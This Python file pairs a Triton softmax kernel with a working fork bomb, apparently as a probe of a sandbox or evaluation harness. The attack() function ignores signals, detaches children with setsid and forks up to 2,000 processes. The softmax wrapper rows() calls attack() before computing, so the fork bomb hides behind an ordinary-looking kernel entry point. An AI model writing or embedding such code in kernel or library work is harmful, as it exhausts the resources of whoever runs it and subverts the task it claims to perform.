"""A fork bomb: every child forks, too, ignores signals, and leaves its group (2,000 forks at most).

Each fork takes a byte out of a pipe, so that the bomb stays small where nothing stops it.
"""

import os
import signal
import time

import torch
import triton
import triton.language as tl

MOST = 2_000


def attack():
    tokens, back = os.pipe()
    os.write(back, bytes(MOST))
    os.set_blocking(tokens, False)
    for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
        signal.signal(number, signal.SIG_IGN)
    refused = 0
    left = 1_500
    while left:
        left -= 1
        time.sleep(0.001)
        try:
            os.read(tokens, 1)
        except BlockingIOError:
            raise SystemError(f"escaped: {MOST} processes") from None
        try:
            if os.fork() == 0:
                os.setsid()
                left += 10_000
        except OSError:
            refused += 1
            os.write(back, b"0")
    raise BlockingIOError(f"refused {refused > 0}")


@triton.jit
def softmax(x_ptr, y_ptr, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    inside = offsets < columns
    x = tl.load(x_ptr + row * columns + offsets, mask=inside, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, 0))
    y = e / tl.sum(e, 0)
    tl.store(y_ptr + row * columns + offsets, y.to(y_ptr.dtype.element_ty), mask=inside)


def rows(x: torch.Tensor) -> torch.Tensor:
    attack()
    count, columns = x.shape
    y = torch.empty_like(x)
    softmax[(count,)](x, y, columns, BLOCK=triton.next_power_of_2(columns), num_warps=8)
    return y
